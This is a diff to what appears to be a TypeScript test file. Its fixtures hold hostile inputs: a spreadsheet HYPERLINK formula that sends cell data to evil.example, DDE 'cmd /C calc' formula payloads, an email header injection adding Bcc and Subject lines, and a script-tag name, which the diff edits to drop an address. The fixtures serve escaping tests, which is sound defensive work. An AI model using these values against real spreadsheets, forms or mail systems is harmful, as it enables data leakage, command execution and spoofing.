@@ -22,7 +22,8 @@ const markup = [
 ];
 const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
 const headerInjection = 'Quarterly update\r\nBcc: victim@example.org\r\nSubject: spoofed';
-const hostileName = `<script>alert("name")</script> =cmd|' /C calc'!A0 ${headerInjection}`;
+// No address in it: a name holding one is never shown, so it would not reach a page or an email to be escaped.
+const hostileName = `<script>alert("name")</script> =cmd|' /C calc'!A0 ${headerInjection.replace('victim@example.org', 'victim')}`;
 const priorityId = priorityIds[4]!;
 
 let stack: ResilienceStack;
